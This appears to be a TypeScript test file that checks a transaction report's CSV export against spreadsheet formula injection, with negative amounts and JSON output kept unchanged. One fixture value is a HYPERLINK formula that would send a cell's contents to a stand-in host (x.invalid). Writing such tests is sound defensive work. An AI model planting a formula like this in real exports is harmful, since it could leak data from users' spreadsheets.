import { parse } from 'csv-parse/sync';
import { describeEachDatabase } from '../support/describe-databases';
import { createShop } from '../support/factories';
import { appForBlock } from '../support/test-app';
import { getReport, insertReportSale, reportToken } from './report-fixtures';

const PERIOD = { From: '2026-03-01', To: '2026-03-08' };
const FORMULA = '=HYPERLINK("http://x.invalid/?"&A2,"Click")';
const PHONE = '+31600000000';

describeEachDatabase('TransactionDetailReport CSV cannot start a spreadsheet formula', (ctx) => {
  const api = appForBlock(ctx);
  let shop: string;

  beforeAll(async () => {
    shop = await createShop(ctx.db.db);
    await insertReportSale(ctx.db.db, {
      id: 900,
      shopCode: shop,
      soldAt: '2026-03-02 10:00:00.000',
      kind: 'RETURN',
      customerCode: PHONE,
      lines: [
        {
          itemCode: '@SUM(A1)',
          description: FORMULA,
          quantity: '-1.0000',
          unitPrice: '2.42',
          net: '-2.00',
          tax: '-0.42',
          gross: '-2.42',
        },
      ],
    });
  });

  const report = (accept: string) =>
    getReport(
      api.current.baseUrl,
      reportToken([shop]),
      { ...PERIOD, ShopCode: shop },
      {
        Accept: accept,
      },
    );

  it("should put a leading ' before text cells that start like a formula, and keep negative amounts", async () => {
    const res = await report('text/csv');
    expect(res.status).toBe(200);
    const [row] = parse<Record<string, string>>(res.text, { columns: true });
    expect(row).toMatchObject({
      description: `'${FORMULA}`,
      customerCode: `'${PHONE}`,
      itemCode: "'@SUM(A1)",
      quantity: '-1.0000',
      net: '-2.00',
      tax: '-0.42',
      gross: '-2.42',
    });
  });

  it('should keep the data as stored in JSON', async () => {
    const res = await report('application/json');
    expect(res.status).toBe(200);
    expect(res.body.rows).toHaveLength(1);
    expect(res.body.rows[0]).toMatchObject({
      description: FORMULA,
      customerCode: PHONE,
      itemCode: '@SUM(A1)',
      net: '-2.00',
    });
  });
});
